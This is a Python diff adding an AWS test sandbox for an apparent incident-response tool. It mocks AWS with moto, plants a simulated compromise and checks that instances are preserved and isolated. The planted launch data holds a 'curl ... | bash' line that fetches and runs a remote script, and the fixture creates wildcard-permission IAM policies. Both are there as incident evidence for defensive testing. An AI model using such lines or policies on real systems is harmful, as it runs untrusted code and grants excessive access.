@@ -1,0 +1,448 @@
+"""The AWS sandbox: moto in-process, a planted incident, state snapshots and botocore-level failure injection."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+from collections.abc import Iterator
+from contextlib import ExitStack, contextmanager
+from datetime import UTC, datetime, timedelta
+from typing import Any
+from unittest import mock
+
+import boto3
+import botocore.handlers
+import botocore.loaders
+import botocore.session
+from botocore.awsrequest import AWSResponse
+from moto import mock_aws
+from moto.ebs.models import EBSSnapshot, ebs_backends
+from moto.ec2.models.elastic_block_store import EBSBackend as Ec2EbsBackend
+from moto.kms.models import kms_backends
+
+from cloudir.provider import TargetKind, TargetQuery
+from moto_fixtures.guard import sandbox_environment
+from moto_fixtures.sandbox import PlantedIncident
+from providers.aws import AwsProvider
+
+ACCOUNT = "123456789012"
+REGION = "us-east-1"
+FORENSIC_ACCOUNT = "111122223333"
+FORENSIC_REGION = "us-west-2"
+BLOCK = 512  # moto's EBS direct API block size
+TAG_CASE = "cloudir:case-id"
+USER_DATA = b"#!/bin/bash\nyum install -y httpd\ncurl -s http://203.0.113.50/x.sh | bash\n"
+
+
+# Service models are large JSON files; every sandbox shares one loader so each is parsed once per process.
+_MODEL_LOADER = botocore.loaders.create_loader()
+
+
+def block_checksum(data: bytes) -> str:
+    """The base64 SHA-256 the EBS direct APIs send with a block."""
+    return base64.b64encode(hashlib.sha256(data).digest()).decode()
+
+
+class AwsSandbox:
+    """moto's mock_aws with fake credentials, disk content for EBS direct reads, and failure injection."""
+
+    cloud = "aws"
+
+    def __init__(self, region: str = REGION) -> None:
+        self.region = region
+        self.regions = {region, FORENSIC_REGION}
+        self.session: boto3.Session | None = None
+        self.disks: dict[str, dict[int, bytes]] = {}  # volume id -> block index -> data
+        self._stack = ExitStack()
+        self._clients: dict[tuple[str, str], Any] = {}
+
+    # -- lifecycle ------------------------------------------------------------------------------------------
+    def __enter__(self) -> AwsSandbox:
+        self._stack.enter_context(sandbox_environment())
+        self._stack.enter_context(mock.patch.dict("os.environ", {"MOTO_EC2_LOAD_DEFAULT_AMIS": "false"}))
+        self._stack.enter_context(mock_aws())
+        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "create_snapshot", self._wrap_create_snapshot()))
+        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "copy_snapshot", self._wrap_copy_snapshot()))
+        core = botocore.session.get_session()
+        core.register_component("data_loader", _MODEL_LOADER)
+        self.session = boto3.Session(botocore_session=core, region_name=self.region)
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stack.close()
+        self.session = None
+        self._clients.clear()
+
+    def client(self, service: str, region: str | None = None) -> Any:
+        """A plain boto3 client for the sandbox itself (not recorded in any case)."""
+        assert self.session is not None, "enter the sandbox first"
+        key = (service, region or self.region)
+        if key not in self._clients:
+            self._clients[key] = self.session.client(service, region_name=key[1])  # type: ignore[call-overload]
+        return self._clients[key]
+
+    def provider(self) -> AwsProvider:
+        """An AwsProvider bound to this sandbox's session, polling without delay."""
+        return AwsProvider(region=self.region, session=self.session, poll_seconds=0)
+
+    # -- disk content: snapshots of seeded volumes carry blocks readable through the EBS direct APIs -----------
+    def seed_disk(self, volume_id: str, blocks: dict[int, bytes]) -> None:
+        """Give a volume content; later snapshots of it expose these blocks (index -> data)."""
+        self.disks[volume_id] = blocks
+
+    def _register_blocks(self, backend: Any, snapshot: Any, blocks: dict[int, bytes]) -> None:
+        ebs_snapshot = EBSSnapshot(account_id=backend.account_id, snapshot=snapshot)
+        ebs_snapshot.status = "completed"
+        for index, data in blocks.items():
+            ebs_snapshot.put_block(index, data, block_checksum(data), "SHA256", len(data))
+        ebs_backends[backend.account_id][backend.region_name].snapshots[snapshot.id] = ebs_snapshot
+
+    def _wrap_create_snapshot(self) -> Any:
+        original = Ec2EbsBackend.create_snapshot
+
+        def create_snapshot(backend: Any, volume_id: str, description: str, *args: Any, **kwargs: Any) -> Any:
+            snapshot = original(backend, volume_id, description, *args, **kwargs)
+            if volume_id in self.disks:
+                self._register_blocks(backend, snapshot, self.disks[volume_id])
+            return snapshot
+
+        return create_snapshot
+
+    def _wrap_copy_snapshot(self) -> Any:
+        original = Ec2EbsBackend.copy_snapshot
+
+        def copy_snapshot(backend: Any, source_snapshot_id: str, source_region: str, *args: Any, **kwargs: Any) -> Any:
+            copy = original(backend, source_snapshot_id, source_region, *args, **kwargs)
+            source = ebs_backends[backend.account_id][source_region].snapshots.get(source_snapshot_id)
+            if source is not None:
+                self._register_blocks(backend, copy, {i: b.block_data for i, b in source.blocks.items()})
+            return copy
+
+        return copy_snapshot
+
+    def corrupt_block(self, snapshot_id: str, index: int, region: str | None = None) -> None:
+        """Make the EBS direct API send a wrong checksum for one block of a snapshot."""
+        block = ebs_backends[ACCOUNT][region or self.region].snapshots[snapshot_id].blocks[index]
+        block.checksum = block_checksum(block.block_data + b"tampered")
+
+    # -- failure injection at the botocore layer -----------------------------------------------------------
+    @contextmanager
+    def fail_next(self, operation: str, error_code: str = "InternalError") -> Iterator[None]:
+        """The next call of ``operation`` (any service, any session) fails with ``error_code``."""
+        fired: list[str] = []
+
+        def fail(**kwargs: Any) -> Any:
+            if fired:
+                return None
+            fired.append(operation)
+            status = 500 if error_code in {"InternalError", "ServiceUnavailable"} else 400
+            parsed = {
+                "Error": {"Code": error_code, "Message": f"injected {error_code} for {operation}"},
+                "ResponseMetadata": {"HTTPStatusCode": status, "RequestId": "sandbox-injected"},
+            }
+            return AWSResponse("https://sandbox.invalid/", status, {}, None), parsed
+
+        event = f"before-call.*.{operation}"
+        entry = (event, fail)
+        botocore.handlers.BUILTIN_HANDLERS.append(entry)
+        assert self.session is not None
+        self.session.events.register(event, fail)
+        try:
+            yield
+        finally:
+            botocore.handlers.BUILTIN_HANDLERS.remove(entry)
+            self.session.events.unregister(event, fail)
+
+    # -- the planted incident ------------------------------------------------------------------------------
+    def plant_incident(self) -> PlantedIncident:
+        """A web server in an Auto Scaling group, two volumes (one on aws/ebs), a role, a leaked access key."""
+        ec2 = self.client("ec2")
+        now = datetime.now(UTC)
+        key_arn = create_customer_key(self, self.region, "cloudir-forensics")
+        create_customer_key(self, FORENSIC_REGION, "cloudir-forensics")
+        profile_arn = create_instance_role(self, "web-app-role", "web-app-profile")
+        instance_id = launch_asg_instance(self, "web-asg", profile_arn)
+        instance = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
+        zone = instance["Placement"]["AvailabilityZone"]
+        root_volume = instance["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
+        data_volume = ec2.create_volume(Size=1, AvailabilityZone=zone, Encrypted=True)["VolumeId"]
+        ec2.attach_volume(VolumeId=data_volume, InstanceId=instance_id, Device="/dev/sdf")
+        mark_aws_managed(self, ec2.describe_volumes(VolumeIds=[data_volume])["Volumes"][0]["KmsKeyId"], self.region)
+        self.seed_disk(root_volume, {0: b"\xeb\x63\x90BOOT".ljust(BLOCK, b"\0"), 7: b"/etc/passwd".ljust(BLOCK, b"\0")})
+        self.seed_disk(data_volume, {2048: b"stolen-customer-data".ljust(BLOCK, b"\0")})
+        user_arn, access_key = create_user_with_key(self, "ci-deployer")
+        eni = instance["NetworkInterfaces"][0]
+        incident = PlantedIncident(
+            cloud="aws",
+            target=TargetQuery(TargetKind.INSTANCE, instance_id, self.region),
+            attacker_principal=user_arn,
+            window_start=(now - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
+            window_end=(now + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ"),
+            forensic_account=FORENSIC_ACCOUNT,
+            encryption_key=key_arn,
+            access_key=access_key,
+            alternate_targets=[
+                TargetQuery(TargetKind.INSTANCE, instance["PrivateIpAddress"], self.region),
+                TargetQuery(TargetKind.INSTANCE, instance["PublicIpAddress"], self.region),
+                TargetQuery(TargetKind.INSTANCE, eni["NetworkInterfaceId"], self.region),
+            ],
+            extra={
+                "instance_id": instance_id,
+                "asg": "web-asg",
+                "role": "web-app-role",
+                "user": "ci-deployer",
+                "volumes": [root_volume, data_volume],
+                "forensic_region": FORENSIC_REGION,
+            },
+        )
+        # <- Attacker CloudTrail activity (engineer B's moto_fixtures.cloudtrail) is planted here, using `incident`.
+        return incident  # noqa: RET504 - keeps the single place above for planting CloudTrail activity
+
+    # -- inspection ----------------------------------------------------------------------------------------
+    def snapshots_for_case(self, case_id: str) -> list[str]:
+        """Snapshots and copies tagged with the case id, in every sandbox region."""
+        found = []
+        for region in sorted(self.regions):
+            snaps = self.client("ec2", region).describe_snapshots(
+                OwnerIds=["self"], Filters=[{"Name": f"tag:{TAG_CASE}", "Values": [case_id]}]
+            )["Snapshots"]
+            found += [s["SnapshotId"] for s in snaps]
+        return sorted(found)
+
+    def is_preserved(self, incident: PlantedIncident) -> bool:
+        """Termination protection, stop on shutdown, volumes kept, and out of reach of scale-in."""
+        ec2 = self.client("ec2", incident.target.location)
+        iid = incident.extra["instance_id"]
+        attrs = _instance_attributes(ec2, iid)
+        members = self.client("autoscaling", incident.target.location).describe_auto_scaling_instances(
+            InstanceIds=[iid]
+        )["AutoScalingInstances"]
+        asg_safe = (
+            not members or members[0]["ProtectedFromScaleIn"] or members[0]["LifecycleState"].startswith("Standby")
+        )
+        return bool(
+            attrs["disableApiTermination"]
+            and attrs["instanceInitiatedShutdownBehavior"] == "stop"
+            and not any(attrs["deleteOnTermination"].values())
+            and asg_safe
+        )
+
+    def is_isolated(self, incident: PlantedIncident) -> bool:
+        """Every interface of the instance sits only in a rule-less cloudir isolation group."""
+        ec2 = self.client("ec2", incident.target.location)
+        iid = incident.extra["instance_id"]
+        enis = ec2.describe_network_interfaces(Filters=[{"Name": "attachment.instance-id", "Values": [iid]}])[
+            "NetworkInterfaces"
+        ]
+        group_ids = {g["GroupId"] for eni in enis for g in eni["Groups"]}
+        if not enis or not group_ids:
+            return False
+        groups = ec2.describe_security_groups(GroupIds=sorted(group_ids))["SecurityGroups"]
+        return all(
+            g["GroupName"].startswith("cloudir-isolation") and not g.get("IpPermissionsEgress") for g in groups
+        ) and all(len(eni["Groups"]) == 1 for eni in enis)
+
+    def state(self) -> dict[str, Any]:
+        """Everything a dry run must not change, as plain data."""
+        state: dict[str, Any] = {"regions": {}, "iam": _iam_state(self.client("iam")), "s3": self._s3_state()}
+        for region in sorted(self.regions):
+            ec2, asg, kms = self.client("ec2", region), self.client("autoscaling", region), self.client("kms", region)
+            instances = [i for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]]
+            snapshots = ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"]
+            state["regions"][region] = {
+                "instances": {
+                    i["InstanceId"]: {
+                        "state": i["State"]["Name"],
+                        "attributes": _instance_attributes(ec2, i["InstanceId"]),
+                        "interfaces": {
+                            e["NetworkInterfaceId"]: sorted(g["GroupId"] for g in e["Groups"])
+                            for e in i.get("NetworkInterfaces", [])
+                        },
+                        "profile": (i.get("IamInstanceProfile") or {}).get("Arn"),
+                    }
+                    for i in instances
+                },
+                "volumes": {v["VolumeId"]: [v["State"], v.get("KmsKeyId")] for v in ec2.describe_volumes()["Volumes"]},
+                "snapshots": {
+                    s["SnapshotId"]: {
+                        "volume": s["VolumeId"],
+                        "tags": sorted((t["Key"], t["Value"]) for t in s.get("Tags", [])),
+                        "shared_with": ec2.describe_snapshot_attribute(
+                            SnapshotId=s["SnapshotId"], Attribute="createVolumePermission"
+                        )["CreateVolumePermissions"],
+                    }
+                    for s in snapshots
+                },
+                "security_groups": {
+                    g["GroupId"]: json.loads(json.dumps([g["GroupName"], g["IpPermissions"], g["IpPermissionsEgress"]]))
+                    for g in ec2.describe_security_groups()["SecurityGroups"]
+                },
+                "autoscaling": {
+                    m["InstanceId"]: [m["LifecycleState"], m["ProtectedFromScaleIn"]]
+                    for m in asg.describe_auto_scaling_instances()["AutoScalingInstances"]
+                },
+                "kms_grants": {
+                    k["KeyId"]: len(kms.list_grants(KeyId=k["KeyId"])["Grants"]) for k in kms.list_keys()["Keys"]
+                },
+            }
+        return state
+
+    def _s3_state(self) -> dict[str, list[str]]:
+        s3 = self.client("s3")
+        return {
+            b["Name"]: sorted(o["Key"] for o in s3.list_objects_v2(Bucket=b["Name"]).get("Contents", []))
+            for b in s3.list_buckets()["Buckets"]
+        }
+
+
+# -- scenario builders (also used by moto_fixtures.fixtures_aws) -----------------------------------------------
+def create_customer_key(sandbox: AwsSandbox, region: str, alias: str) -> str:
+    """A customer-managed KMS key with an alias; returns its ARN."""
+    kms = sandbox.client("kms", region)
+    key = kms.create_key(Description=f"{alias} (sandbox)")["KeyMetadata"]
+    kms.create_alias(AliasName=f"alias/{alias}", TargetKeyId=key["KeyId"])
+    return str(key["Arn"])
+
+
+def mark_aws_managed(sandbox: AwsSandbox, key_id: str, region: str) -> None:
+    """Make moto report a key as AWS-managed, as real AWS does for the aws/ebs default key."""
+    backend = kms_backends[ACCOUNT][region]
+    backend.keys[backend.any_id_to_key_id(key_id)].key_manager = "AWS"
+
+
+def create_instance_role(sandbox: AwsSandbox, role: str, profile: str) -> str:
+    """A role with an inline S3 policy and an attached managed policy, in an instance profile; returns its ARN."""
+    iam = sandbox.client("iam")
+    trust = {
+        "Version": "2012-10-17",
+        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}],
+    }
+    iam.create_role(RoleName=role, AssumeRolePolicyDocument=json.dumps(trust))
+    iam.put_role_policy(
+        RoleName=role,
+        PolicyName="app-data",
+        PolicyDocument=json.dumps(
+            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
+        ),
+    )
+    policy = iam.create_policy(
+        PolicyName=f"{role}-logs",
+        PolicyDocument=json.dumps(
+            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "logs:*", "Resource": "*"}]}
+        ),
+    )["Policy"]
+    iam.attach_role_policy(RoleName=role, PolicyArn=policy["Arn"])
+    arn = iam.create_instance_profile(InstanceProfileName=profile)["InstanceProfile"]["Arn"]
+    iam.add_role_to_instance_profile(InstanceProfileName=profile, RoleName=role)
+    return str(arn)
+
+
+def launch_asg_instance(sandbox: AwsSandbox, group: str, profile_arn: str | None, region: str | None = None) -> str:
+    """An Auto Scaling group of one instance (1 GiB root volume, user data, Name tag); returns the instance id."""
+    ec2, asg = sandbox.client("ec2", region), sandbox.client("autoscaling", region)
+    ami = _image(ec2)
+    ec2.create_launch_template(
+        LaunchTemplateName=group,
+        LaunchTemplateData={
+            "ImageId": ami,
+            "InstanceType": "t3.micro",
+            "UserData": base64.b64encode(USER_DATA).decode(),
+            "BlockDeviceMappings": [{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 1, "DeleteOnTermination": True}}],
+            "TagSpecifications": [{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": f"{group}-1"}]}],
+        },
+    )
+    subnet = ec2.describe_subnets()["Subnets"][0]["SubnetId"]
+    asg.create_auto_scaling_group(
+        AutoScalingGroupName=group,
+        LaunchTemplate={"LaunchTemplateName": group},
+        MinSize=1,
+        MaxSize=2,
+        DesiredCapacity=1,
+        VPCZoneIdentifier=subnet,
+    )
+    instance_id = str(
+        asg.describe_auto_scaling_groups(AutoScalingGroupNames=[group])["AutoScalingGroups"][0]["Instances"][0][
+            "InstanceId"
+        ]
+    )
+    if profile_arn:
+        ec2.associate_iam_instance_profile(IamInstanceProfile={"Arn": profile_arn}, InstanceId=instance_id)
+    return instance_id
+
+
+def launch_instance(
+    sandbox: AwsSandbox, *, region: str | None = None, extra_volumes: int = 0, encrypted_key: str | None = None
+) -> str:
+    """A standalone instance with a 1 GiB root volume and ``extra_volumes`` more (encrypted with ``encrypted_key``)."""
+    ec2 = sandbox.client("ec2", region)
+    ami = _image(ec2)
+    instance = ec2.run_instances(
+        ImageId=ami,
+        InstanceType="t3.micro",
+        MinCount=1,
+        MaxCount=1,
+        BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 1}}],
+    )["Instances"][0]
+    for index in range(extra_volumes):
+        params: dict[str, Any] = {"Size": 1, "AvailabilityZone": instance["Placement"]["AvailabilityZone"]}
+        if encrypted_key:
+            params |= {"Encrypted": True, "KmsKeyId": encrypted_key}
+        volume = ec2.create_volume(**params)["VolumeId"]
+        ec2.attach_volume(VolumeId=volume, InstanceId=instance["InstanceId"], Device=f"/dev/sd{chr(ord('f') + index)}")
+    return str(instance["InstanceId"])
+
+
+def create_user_with_key(sandbox: AwsSandbox, user: str, keys: int = 1) -> tuple[str, str]:
+    """An IAM user with ``keys`` active access keys; returns (user ARN, first key id)."""
+    iam = sandbox.client("iam")
+    arn = iam.create_user(UserName=user)["User"]["Arn"]
+    iam.put_user_policy(
+        UserName=user,
+        PolicyName="deploy",
+        PolicyDocument=json.dumps(
+            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
+        ),
+    )
+    key_ids = [iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"] for _ in range(keys)]
+    return str(arn), str(key_ids[0])
+
+
+def _image(ec2: Any) -> str:
+    """The sandbox's one machine image (moto's default AMIs are not loaded: they make every call slow)."""
+    found = ec2.describe_images(Owners=["self"], Filters=[{"Name": "name", "Values": ["cloudir-sandbox-linux"]}])
+    if found["Images"]:
+        return str(found["Images"][0]["ImageId"])
+    return str(ec2.register_image(Name="cloudir-sandbox-linux", RootDeviceName="/dev/sda1")["ImageId"])
+
+
+def _instance_attributes(ec2: Any, instance_id: str) -> dict[str, Any]:
+    def value(attribute: str) -> Any:
+        response = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute=attribute)
+        return next(v for k, v in response.items() if k not in {"InstanceId", "ResponseMetadata"})
+
+    described = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
+    mappings = described.get("BlockDeviceMappings", [])
+    return {
+        "disableApiTermination": value("disableApiTermination")["Value"],
+        "instanceInitiatedShutdownBehavior": value("instanceInitiatedShutdownBehavior")["Value"],
+        "deleteOnTermination": {m["Ebs"]["VolumeId"]: m["Ebs"]["DeleteOnTermination"] for m in mappings},
+    }
+
+
+def _iam_state(iam: Any) -> dict[str, Any]:
+    users = {
+        u["UserName"]: {
+            "keys": {
+                k["AccessKeyId"]: k["Status"] for k in iam.list_access_keys(UserName=u["UserName"])["AccessKeyMetadata"]
+            },
+            "policies": sorted(iam.list_user_policies(UserName=u["UserName"])["PolicyNames"]),
+        }
+        for u in iam.list_users()["Users"]
+    }
+    roles = {
+        r["RoleName"]: sorted(iam.list_role_policies(RoleName=r["RoleName"])["PolicyNames"])
+        for r in iam.list_roles()["Roles"]
+    }
+    profiles = sorted(p["InstanceProfileName"] for p in iam.list_instance_profiles()["InstanceProfiles"])
+    return {"users": users, "roles": roles, "instance_profiles": profiles}
